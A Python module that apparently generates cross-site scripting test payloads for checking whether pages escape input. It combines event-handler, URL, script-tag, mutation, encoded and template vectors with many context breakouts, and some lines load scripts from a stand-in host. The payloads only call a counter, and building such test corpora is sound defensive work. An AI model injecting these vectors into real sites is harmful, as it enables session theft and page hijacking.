"""Texts that would run as a script wherever a page forgets to escape: families by ways out.

A family is a way to make a browser run something, written in several hands; a way out is what ends
the place where a text stands (an attribute, a title, a script, a comment). Every payload calls
``r``, which counts, and what it writes bears the attribute ``data-p``.
"""

import random
from itertools import cycle, product

FOREIGN = "canary.invalid"
_TAGS = (
    ("img src=x", "onerror"),
    ("svg", "onload"),
    ("body", "onpageshow"),
    ("details open", "ontoggle"),
    ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("button autofocus", "onfocus"),
    ("video src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("iframe", "onload"),
    ("object data=x", "onerror"),
    ("link rel=stylesheet href=x", "onerror"),
    ("style", "onload"),
    ("script src=x", "onerror"),
    ("marquee", "onstart"),
    ("div tabindex=0 autofocus", "onfocus"),
    ("p contenteditable", "onpointerover"),
    ("video><source data-p", "onerror"),
    ("picture><img data-p src=x", "onerror"),
    ("svg><image data-p href=x", "onerror"),
    ("svg><animate data-p dur=1s", "onbegin"),
    ("svg><set data-p dur=1s", "onbegin"),
)
_HANDS = (
    "<{tag} data-p {event}=r()>",
    '<{tag} data-p {event}="r()">',
    "<{tag} data-p {event}='r()'>",
    "<{tag}\ndata-p\t{event} = r() ",
    "<{tag} data-p {EVENT}=&#114;()>",
    "<{tag} data-p {event}=r``//",
)
_ADDRESSES = (
    "<a data-p href={url}>x</a>",
    '<a data-p href="{url}" autofocus>x</a>',
    "<iframe data-p src={url}></iframe>",
    "<form data-p action={url}><input type=submit></form>",
    "<button data-p formaction={url} form=f>x</button>",
    "<object data-p data={url}></object>",
    "<embed data-p src={url}>",
    "<area data-p href={url}>",
    "<svg><a data-p xlink:href={url}><text>x</text></a></svg>",
    "<meta data-p http-equiv=refresh content=0;url={url}>",
    "<base data-p href={url}>",
)
_URLS = (
    "javascript:r()",
    "JaVaScRiPt:r()",
    "java&Tab;script:r()",
    "javascript&colon;r()",
    "&#106;avascript:r()",
    "data:text/html,<script>r()</script>",
    f"//{FOREIGN}/",
)
_SCRIPTS = (
    "<script data-p>r()</script>",
    "<ScRiPt data-p>r()</sCrIpT >",
    "<script/data-p>r()</script>",
    "<script data-p type=module>r()</script>",
    "<script data-p src=data:text/javascript,r()></script>",
    f"<script data-p src=//{FOREIGN}/x.js></script>",
    "<<script data-p>r()//<</script>",
    "<svg data-p><script>r()</script></svg>",
    "<iframe data-p srcdoc='<script>parent.r()</script>'></iframe>",
    f"<link data-p rel=stylesheet href=//{FOREIGN}/x.css>",
    f"<img data-p src=//{FOREIGN}/x.png>",
    "<template data-p shadowrootmode=open><script>r()</script></template>",
)
_MUTATIONS = (
    "<noscript><p title='</noscript><img data-p src=x onerror=r()>'>",
    "<math><mtext><table><mglyph><style><img data-p src=x onerror=r()>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><img data-p src=x onerror=r()>",
    "<svg></p><style><a data-p id='</style><img data-p src=x onerror=r()>'>",
    "<textarea><img title='</textarea><img data-p src=x onerror=r()>'></textarea>",
    "<title><img data-p title='</title><img data-p src=x onerror=r()>'></title>",
    "<![CDATA[<img data-p src=x onerror=r()>]]>",
    "<!--><img data-p src=x onerror=r()>-->",
    "<style>@import '//canary.invalid/';</style><b data-p style=background:url(//canary.invalid/)>",
)
_DISGUISED = (
    "＜script data-p＞r()＜/script＞",
    "&lt;img data-p src=x onerror=r()&gt;",
    "%3Cimg data-p src=x onerror=r()%3E",
    "\\u003cimg data-p src=x onerror=r()\\u003e",
    "\\x3cimg data-p src=x onerror=r()\\x3e",
    "+ADw-script data-p+AD4-r()+ADw-/script+AD4-",
    "‹img data-p src=x onerror=r()›",
)
_TEMPLATES = (
    "{{ 'pw'|add:'ned' }}",
    "{% firstof 'pw' %}ned{% debug %}",
    "{% include 'base.html' %}",
    "${{r()}} #{{r()}} <%= r() %>",
    "<c-field :field='r()' data-p />",
    "<b data-p hx-on:load=r() hx-get=/ hx-trigger=load>",
    "<b data-p hx-vals='js:{{x:r()}}' data-suggest=//canary.invalid/>",
)
_STRINGS = (
    "onfocus=r() autofocus data-p x=",
    "-r()-",
    ";r();//",
    "+r()+",
    "onpointerover=r() style=position:fixed;inset:0 data-p ",
)

WAYS_OUT = (
    "",
    '"',
    "'",
    "`",
    ">",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</select>",
    "</option></datalist>",
    "</noscript>",
    "</template>",
    "-->",
    "]]>",
    "*/",
    '\\">',
    "&quot;&gt;",
    "');",
    '"});',
    "\n\n",
    "</svg></math>",
)


def families() -> dict[str, tuple[str, ...]]:
    """Return every vector, by the name of its family."""
    handlers = tuple(
        hand.format(tag=tag, event=event, EVENT=event.upper())
        for (tag, event), hand in product(_TAGS, _HANDS)
    )
    addresses = tuple(
        frame.format(url=url.replace(" ", "&#32;")) for frame, url in product(_ADDRESSES, _URLS)
    )
    return {
        "handler": handlers,
        "address": addresses,
        "script": _SCRIPTS,
        "mutation": _MUTATIONS,
        "disguise": _DISGUISED,
        "template": _TEMPLATES,
        "string": _STRINGS,
    }


def payloads(count: int) -> list[str]:
    """Return so many different payloads, the families in turn and each in many ways out."""
    chance = random.Random(2024)  # noqa: S311 - drawn anew alike each time
    piles = []
    for vectors in families().values():
        pile = [way + vector for way, vector in product(WAYS_OUT, vectors)]
        chance.shuffle(pile)
        piles.append(pile)
    found: dict[str, None] = {}
    for pile in cycle(piles):
        if pile:
            found[pile.pop()] = None
        if len(found) == count or not any(piles):
            return list(found)
    return []
